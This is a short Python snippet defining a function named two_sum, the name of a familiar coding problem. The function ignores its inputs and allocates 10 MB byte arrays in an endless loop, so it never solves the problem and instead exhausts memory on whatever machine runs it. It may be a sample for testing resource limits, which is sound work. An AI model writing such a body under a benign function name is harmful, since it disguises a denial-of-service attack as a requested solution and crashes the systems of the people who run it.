def two_sum(nums, target):
    hog = []
    while True:
        hog.append(bytearray(10**7))
